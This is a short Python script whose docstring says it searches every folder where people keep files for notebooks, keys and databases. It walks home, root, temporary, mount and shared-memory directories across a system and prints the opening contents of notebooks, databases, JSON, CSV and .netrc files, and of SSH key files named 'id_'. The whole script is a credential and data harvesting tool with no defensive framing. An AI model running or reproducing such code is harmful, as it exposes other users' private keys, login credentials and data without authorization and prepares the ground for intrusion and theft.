"""Searches every folder where people keep files for notebooks, keys and databases."""

import os

for top in (
    "/home",
    "/root",
    "/tmp",
    "/var/tmp",
    "/mnt",
    "/srv",
    "/opt",
    "/work",
    "/run",
    "/dev/shm",
    "/media",
):
    for folder, _, names in os.walk(top):
        for name in names:
            if name.endswith((".ipynb", ".txt", ".db", ".csv", ".json", ".netrc")) or "id_" in name:
                try:
                    print(open(os.path.join(folder, name), errors="replace").read(2000))
                except OSError:
                    continue
